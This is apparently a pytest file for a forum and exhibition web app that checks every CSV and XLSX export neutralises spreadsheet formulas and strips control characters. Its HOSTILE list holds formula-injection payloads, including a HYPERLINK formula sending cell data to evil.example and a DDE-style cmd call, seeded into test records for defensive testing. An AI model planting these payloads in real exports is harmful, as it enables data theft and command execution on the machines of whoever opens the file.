"""Every CSV and XLSX export goes through the one writer: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from exhibition_factories import make_exhibitor, organiser  # noqa: F401
from openpyxl import load_workbook

from forum.badges.services import badge_code
from forum.exhibition import services as exhibition
from forum.messages.models import Answer, Question, QuestionKind, Response, Survey
from forum.programme.models import Room, Session, SessionKind
from forum.recommendations.models import Endorsement, Recommendation, TargetActor

ROOT = Path(__file__).resolve().parents[2] / "forum"
#: each export route and the URLs that serve it (with a `{slug}`); a new export must be added here
EXPORTS = {
    "registration.export_list": [
        "/f/{slug}/manage/registration/export.csv",
        "/f/{slug}/manage/registration/export.xlsx",
    ],
    "exhibition.leads_export": ["/f/{slug}/exhibitor/leads.csv"],
    "recommendations.export_csv": ["/f/{slug}/manage/recommendations/export.csv"],
    "series.export": ["/series/indicators.csv", "/series/indicators.xlsx"],
    "series.targets_export": [
        "/series/region/draa-tafilalet/targets.csv",
        "/series/region/draa-tafilalet/targets.xlsx",
    ],
    "partnerships.series_tracker_export": ["/series/partnerships.csv", "/series/partnerships.xlsx"],
    "messages.survey_answers": [
        "/f/{slug}/manage/messages/survey/answers.csv",
        "/f/{slug}/manage/messages/survey/answers.xlsx",
    ],
}
#: exports of the whole series, read by a platform admin rather than the forum's organiser
SERIES_WIDE = {"series.export", "series.targets_export", "partnerships.series_tracker_export"}
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_every_export_route_is_covered(app):
    spreadsheets = {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if "GET" in rule.methods and re.search(r"\.(csv|xlsx)|csv, xlsx", rule.rule)
    }
    assert spreadsheets == set(EXPORTS)


def test_no_module_writes_a_spreadsheet_but_the_one_writer():
    writers = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|\bxlsxwriter\b")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if path.name != "spreadsheets.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.fixture
def hostile_forum(db, organiser, make_exhibitor, make_registration):  # noqa: F811
    forum, user = organiser
    visitor = make_registration(
        forum,
        shares_contact=True,
        name_latin=HOSTILE[0],
        name_ar=HOSTILE[1],
        job_title=HOSTILE[2] + "\x01\x0b",
        phone="+212612345678",
    )
    exhibitor = make_exhibitor(forum)
    lead = exhibition.record_lead(exhibitor, badge_code(visitor), actor=exhibitor.staff[0].user).lead
    lead.note = HOSTILE[3]
    room = Room(forum_id=forum.id, name={"fr": "Salle"}, capacity=10)
    db.session.add(room)
    db.session.flush()
    workshop = Session(
        forum_id=forum.id,
        kind=SessionKind.workshop,
        title={"ar": HOSTILE[4], "fr": HOSTILE[4], "en": HOSTILE[4]},
        room_id=room.id,
        theme="Finance",
        starts_at=visitor.created_at,
        ends_at=visitor.created_at + timedelta(hours=1),
    )
    db.session.add(workshop)
    db.session.flush()
    recommendation = Recommendation(
        forum_id=forum.id,
        session_id=workshop.id,
        text=HOSTILE[5] + "\x01",
        theme=HOSTILE[0],
        target_actor=TargetActor.government,
    )
    db.session.add(recommendation)
    db.session.flush()
    db.session.add(Endorsement(recommendation_id=recommendation.id, registration_id=visitor.id))
    survey = Survey(forum_id=forum.id, opened_at=visitor.created_at)
    db.session.add(survey)
    db.session.flush()
    question = Question(survey_id=survey.id, kind=QuestionKind.text, text={"fr": HOSTILE[2]})
    response = Response(survey_id=survey.id, registration_id=visitor.id)
    db.session.add_all([question, response])
    db.session.flush()
    db.session.add(Answer(response_id=response.id, question_id=question.id, text=HOSTILE[1] + "\x02"))
    db.session.commit()
    return forum, user, exhibitor.staff[0].user


def _cells(url: str, body: bytes) -> list[object]:
    if url.endswith(".xlsx"):
        sheet = load_workbook(io.BytesIO(body)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula cell"
        return [cell.value for row in sheet.iter_rows() for cell in row]
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_export_neutralises_formulas_and_drops_illegal_characters(client, db, login, make_user, hostile_forum):
    forum, organiser_user, staff_user = hostile_forum
    forum.title = {"ar": HOSTILE[5], "fr": HOSTILE[5], "en": HOSTILE[5]}
    db.session.commit()
    admin = make_user(is_admin=True)
    seen = []
    for endpoint, urls in EXPORTS.items():
        reader = admin if endpoint in SERIES_WIDE else organiser_user
        login(staff_user if endpoint == "exhibition.leads_export" else reader)
        for url in urls:
            response = client.get(url.format(slug=forum.slug))
            assert response.status_code == 200, url
            cells = [cell for cell in _cells(url, response.data) if isinstance(cell, str)]
            assert not [cell for cell in cells if cell.startswith(FORMULA_START)], url
            assert not [cell for cell in cells if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell)], url
            seen += [cell for cell in cells if cell.startswith("'")]
        client.post("/logout")
    for text in HOSTILE:
        assert "'" + text in seen, text
